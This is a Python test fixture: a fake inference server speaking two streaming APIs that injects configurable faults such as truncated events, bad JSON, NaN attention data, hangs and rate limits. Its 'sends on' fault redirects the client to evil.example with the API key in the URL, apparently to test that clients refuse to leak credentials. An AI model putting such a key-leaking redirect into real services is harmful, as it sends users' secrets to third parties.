"""A server that speaks both APIs, and goes wrong in the way it is told to."""

from __future__ import annotations

import base64
import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import numpy as np

KEY = "open sesame"
WORDS = ["The", " cat", " sleeps", "."]


class FaultyServer(ThreadingHTTPServer):
    """`fault` names what goes wrong with the next streams; `asked` are the bodies that came."""

    daemon_threads = True
    fault = ""
    model = "tiny"  # that it runs
    detokenized = 0  # requests for the text of tokens
    turned_away = 0  # so many streams are answered with 429 first

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler, bind_and_activate=False)
        self.server_bind()
        self.asked: list[dict[str, Any]] = []
        self.spelled = {7 + number: word for number, word in enumerate(WORDS)}  # tokens told so far
        self.streams: list[list[dict[str, Any]]] = []  # events that are told first, one list for each request
        self.heads = False  # whether the head (1, 0) looks at what followed the last token before
        self.free = threading.Event()

    def start(self) -> None:
        """Until then nobody is at this address, and nobody else can take it."""
        self.server_activate()
        self.thread = threading.Thread(target=self.serve_forever, args=(0.02,), daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class _Handler(BaseHTTPRequestHandler):
    server: FaultyServer
    protocol_version = "HTTP/1.1"

    def log_message(self, *_: object) -> None: ...

    def do_GET(self) -> None:
        if self.server.fault == "gone":
            self.close_connection = True
            return
        if not self._key_fits():
            return
        if self.server.fault == "sends on":
            self.send_response(302)
            self.send_header("location", f"https://evil.example/?key={KEY}")
            self.send_header("content-length", "0")
            self.end_headers()
            return
        told = {
            "/api/v1/model": {
                "model_name": self.server.model,
                "num_layers": 2,
                "num_attention_heads": 8,
                "max_context_length": 4096,
            },
            "/v1/models": {"data": [{"id": "tiny", "max_model_len": 4096}]},
        }.get(self.path)
        self._answer(200 if told else 404, told or {"error": {"message": "not here"}})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))) or b"{}")
        if self.server.fault == "gone":
            self.close_connection = True
            return
        if not self._key_fits():
            return
        if self.path == "/api/v1/tokenize":
            self._answer(200, {"tokens": self._tokens(body["text"])})
        elif self.path == "/api/v1/detokenize":
            self.server.detokenized += 1
            self._answer(200, {"text": "".join(self.server.spelled[id] for id in body["token_ids"])})
        elif self.path == "/api/extra/abort":
            self._answer(200, {"success": True})
        else:
            self.server.asked.append(body)
            if self.server.turned_away:
                self.server.turned_away -= 1
                self._answer(429, {"error": {"message": "slow down"}})
            else:
                self._stream(body)

    def _tokens(self, text: str) -> list[dict[str, Any]]:
        ids = {word: id for id, word in self.server.spelled.items()}
        told = []
        for piece in re.findall(r"\s?\w+|\W", text):
            id = ids.setdefault(piece, 100 + len(ids))
            self.server.spelled[id] = piece
            told.append({"token_id": id, "text": piece})
        return told

    def _key_fits(self) -> bool:
        if self.headers.get("authorization") == f"Bearer {KEY}":
            return True
        self._answer(401, {"error": {"message": f"wrong key: {self.headers.get('authorization')}"}})
        return False

    def _answer(self, status: int, told: Any) -> None:
        raw = json.dumps(told).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)

    def _stream(self, body: dict[str, Any]) -> None:
        fault = self.server.fault
        if fault == "knows few fields" and (wrong := {"logprobs", "max_tokens"} & set(body)):
            self._answer(400, {"error": {"message": f"Unsupported parameter: {sorted(wrong)[0]}"}})
            return
        if fault == "html":
            raw = b"<html><body>Log in first</body></html>"
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(raw)))
            self.end_headers()
            self.wfile.write(raw)
            return
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.close_connection = True
        if fault == "wrong length":
            self.send_header("content-length", "1000000")
        else:
            self.send_header("connection", "close")
        self.end_headers()
        if fault == "hangs":
            self.wfile.flush()
            self.server.free.wait(30)
            return
        for number, event in enumerate(self._events(body)):
            raw = b"data: " + json.dumps(event).encode() + b"\n\n"
            if fault == "half an event" and number == 2:
                self.wfile.write(raw[: len(raw) // 2])
                return
            if fault in ("dies", "wrong length") and number == 2:
                return
            if fault == "no JSON" and number == 2:
                raw = b"data: <oops>\n\n"
            self.wfile.write(raw * (2 if fault == "repeats" and number == 1 else 1))
            self.wfile.flush()

    def _events(self, body: dict[str, Any]) -> Iterator[dict[str, Any]]:
        if self.server.streams:
            yield from self.server.streams.pop(0)
            return
        if self.path.startswith("/v1"):
            for word in WORDS:
                told = {"delta": {"content": word}, "finish_reason": None}
                if body.get("logprobs"):
                    told["logprobs"] = {"content": [{"token": word, "logprob": -0.5}]}
                yield {"choices": [told]}
            yield {"choices": [{"delta": {}, "finish_reason": "stop"}]}
            usage = {"prompt_tokens": 40, "prompt_tokens_details": {"cached_tokens": 30}}
            yield {"choices": [], "usage": usage}
            return
        for number, word in enumerate(WORDS):
            yield {
                "type": "token",
                "token": {"token_id": 7 + number, "text": word},
                "attention": self._attention([*body["input_ids"], *range(7, 7 + number)], body),
            }
        yield {"type": "done", "finish_reason": "eos", "total_tokens": len(WORDS)}

    def _attention(self, ids: list[int], body: dict[str, Any]) -> Any:
        count = len(ids)
        shape = [2, 8, count] if body.get("attention_format") == "per_layer" else [count]
        rows = np.full(shape, 1 / count, np.float32)
        if self.server.heads and len(shape) == 3:
            after = [i + 1 for i in range(count - 1) if ids[i] == ids[-1]]
            rows[1, 0] = 0
            rows[1, 0, after or [0]] = 1 / max(1, len(after))
        match self.server.fault:
            case "no attention":
                return None
            case "short attention":
                rows = rows[..., :-1]
            case "NaN":
                rows = rows * np.nan
            case "no base64":
                return {"format": "aggregated", "data": "?", "shape": shape}
        data = base64.b64encode(rows.astype("<f4").tobytes()).decode()
        form = "per_layer" if len(shape) == 3 else "aggregated"
        return {"format": form, "shape": shape, "data": data}


@contextmanager
def faulty_server(*, started: bool = True) -> Iterator[FaultyServer]:
    """One that is not `started` yet cannot be reached; whoever asks for that starts it."""
    with FaultyServer() as server:
        if started:
            server.start()
        try:
            yield server
        finally:
            server.free.set()
            server.shutdown()
            server.thread.join()
